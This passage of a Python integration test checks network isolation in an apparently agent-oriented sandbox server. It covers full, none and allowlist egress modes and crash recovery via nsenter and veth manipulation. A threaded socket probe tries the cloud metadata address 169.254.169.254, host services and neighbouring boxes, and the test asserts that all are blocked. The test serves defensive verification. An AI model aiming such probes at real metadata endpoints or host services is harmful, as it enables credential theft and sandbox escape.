r = ex("egress-f", "ip -4 -o addr show eth0; curl -sS -m 10 http://198.51.100.10/full")
h.ok("hello from outside /full" in out_of(r), "a full box reaches the outside directly", out_of(r))
got = [e for e in outside_log()[mark:] if e["kind"] == "http"]
h.ok(got and got[-1]["peer"] == HOST_IP, "... NATed to the host's address", json.dumps(got[-1:]))
gw = ex("egress-f", "ip -4 route show default | awk '{print $3}'").get("stdout", "").strip()
g_ip = ex("egress-g", "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1").get("stdout", "").strip()
h.ok(gw.startswith("10.88.") and g_ip.startswith("10.88."), "full boxes have addresses in 10.88.0.0/16",
     "%s %s" % (gw, g_ip))
ex("egress-g", "nohup python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 & sleep 1")
# Every target at once, each with its 3 s: a dropped SYN costs 3 s once, not
# once per target.
PROBE = r'''
import socket, sys, threading
targets = [(a.rsplit(":", 1)[0], int(a.rsplit(":", 1)[1])) for a in sys.argv[1:]]
res = [None] * len(targets)
def probe(i, host, port):
    s = socket.socket(); s.settimeout(3)
    try:
        s.connect((host, port)); res[i] = "%s:%d=CONNECTED" % (host, port)
    except OSError as e:
        res[i] = "%s:%d=%s" % (host, port, type(e).__name__)
ts = [threading.Thread(target=probe, args=(i, host, port)) for i, (host, port) in enumerate(targets)]
for t in ts: t.start()
for t in ts: t.join()
print(" ".join(res))
'''
targets = ["%s:%d" % (gw, HOST_PORT), "%s:%d" % (HOST_IP, HOST_PORT), "198.51.100.129:%d" % HOST_PORT,
           "169.254.169.254:80", "%s:8000" % g_ip, "127.0.0.1:%d" % HOST_PORT]
r = bpy("egress-f", PROBE, *targets, t=40)
h.ok(out_of(r).count("=") == len(targets) and "CONNECTED" not in out_of(r),
     "a full box reaches neither the host's services (any address), the metadata address, nor another box",
     out_of(r))
h.eq(host_hits, [], "the host's service got no connection")
h.ok(not [x for x in meta_hits if x.startswith("hit")], "the metadata stand-in got no connection", str(meta_hits))
r = bpy("egress-g", PROBE, "127.0.0.1:8000")
h.ok("CONNECTED" in out_of(r), "control: the other box's server is up (inside that box)", out_of(r))

# a set-up a crash cut short (no route yet, not marked done) is made again on restart
pid = ((h.cli_boxes(S.data) or {}).get("egress-f") or {}).get("init_pid")
if pid:
    cut = sh("nsenter", "--net=/proc/%d/ns/net" % pid, "sh", "-c",
             "ip route del default && ip link set dev eth0 alias ''")
    r = ex("egress-f", "curl -sS -m 3 http://198.51.100.10/half; echo rc=$?")
    h.ok(cut.returncode == 0 and "hello from outside" not in out_of(r),
         "control: with its route gone the full box reaches nothing", out_of(r) + cut.stderr)
    S.kill9()
    S.start()
    r = ex("egress-f", "curl -sS -m 10 http://198.51.100.10/redone")
    h.ok("hello from outside /redone" in out_of(r), "after kill -9 and restart the half-made link is made again",
         out_of(r))
else:
    h.skip("a half-made full set-up is redone", "no init pid from agentbox ls")
events = S.sse("/v1/events?types=network.denied,box.network")

r = S.put("/v1/sandboxes/egress-f/network", {"mode": "none"})
h.eq(r.status, 200, "a full box is switched to none", r.describe())
r = ex("egress-f", "cat /proc/net/dev | grep -c eth0; curl -sS -m 5 http://198.51.100.10/none-now; echo rc=$?")
h.ok(out_of(r).startswith("0") and "hello from outside" not in out_of(r),
     "... its link is gone and the outside is unreachable", out_of(r))
r = S.put("/v1/sandboxes/egress-f/network", {"mode": "allowlist", "allow": ["allowed.test"]})
r = curl("egress-f", "http://allowed.test/from-f")
h.ok("hello from outside /from-f" in out_of(r), "none -> allowlist on a running box works", out_of(r))

# the default stays none
r = S.post("/v1/sandboxes", {"id": "egress-n"})
h.eq((r.get("network") or {}).get("mode"), "none", "a box made without a policy has mode none", r.describe())
r = bpy("egress-n", PROBE, "198.51.100.10:80", "127.0.0.1:3128", t=30)
h.ok("CONNECTED" not in out_of(r), "a box in mode none reaches nothing, not even a proxy", out_of(r))

# a veth left in a box whose policy says none (a crash between recording the
# policy and removing the link) is removed when the server starts again
pid = ((h.cli_boxes(S.data) or {}).get("egress-n") or {}).get("init_pid")
if pid:
    stray = sh("ip", "link", "add", "abestray" + tag, "type", "veth", "peer", "name", "eth0", "netns", str(pid))
    r = ex("egress-n", "grep -c eth0 /proc/net/dev")
    h.ok(stray.returncode == 0 and out_of(r).strip().startswith("1"), "control: a stray eth0 is in the none box",
         out_of(r) + stray.stderr)
    S.kill9()
    S.start()
    events = S.sse("/v1/events?types=network.denied,box.network")
    r = ex("egress-n", "grep -c eth0 /proc/net/dev")
    h.ok(out_of(r).strip().startswith("0"), "after a restart the stray link of a none box is gone", out_of(r))
    sh("ip", "link", "del", "abestray" + tag)
else:
    h.skip("a stray link of a none box is removed on restart", "no init pid from agentbox ls")

events.close()
for b in ("egress-a", "egress-star", "egress-f", "egress-g", "egress-n"):
    S.delete("/v1/sandboxes/" + b)
abserver.wait_for(lambda: all(S.get("/v1/sandboxes/" + b).status == 404
                              for b in ("egress-a", "egress-star", "egress-f", "egress-g", "egress-n")), timeout=30)
host_srv.close()
dns_sock.close()
cleanup_netns()
h.done()
